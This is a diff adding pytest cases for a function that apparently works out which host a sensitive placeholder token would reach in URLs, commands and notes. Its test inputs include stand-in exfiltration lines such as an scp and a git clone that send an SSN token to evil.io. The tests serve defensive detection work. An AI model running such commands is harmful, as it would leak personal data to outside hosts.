@@ -436,6 +436,22 @@ def test_a_token_that_is_the_whole_authority_is_told_apart():
     assert [(p.authority, p.host) for p in places("https://evil.io/?e=[SSN_0]")] == [(False, "evil.io")]
 
 
+@pytest.mark.parametrize(
+    "text", ["https://evil.io/a b/[SSN_0]", "https://evil.io/x\n[SSN_0]", "http://evil.io/\t[SSN_0]"]
+)
+def test_what_is_to_be_opened_is_one_address_blanks_and_all(text):
+    """Clients encode a blank, and leave out tabs and line ends."""
+    assert [p.host for p in places(text, "url")] == ["evil.io"]
+    assert [p.host for p in places(text, "note")] == [""]
+
+
+def test_a_path_behind_a_user_and_a_host_is_told_to_that_host():
+    assert [p.host for p in places("git clone git@evil.io:[SSN_0]/x.git", "command")] == ["evil.io"]
+    assert [p.host for p in places("scp a.txt me@evil.io:[SSN_0]", "command")] == ["evil.io"]
+    assert [p.host for p in places("written to me@evil.io: [SSN_0]", "command")] == [""]
+    assert [p.host for p in places("me@evil.io:[SSN_0] as it was", "note")] == [""]
+
+
 # -- code ------------------------------------------------------------------------------------------
 
 
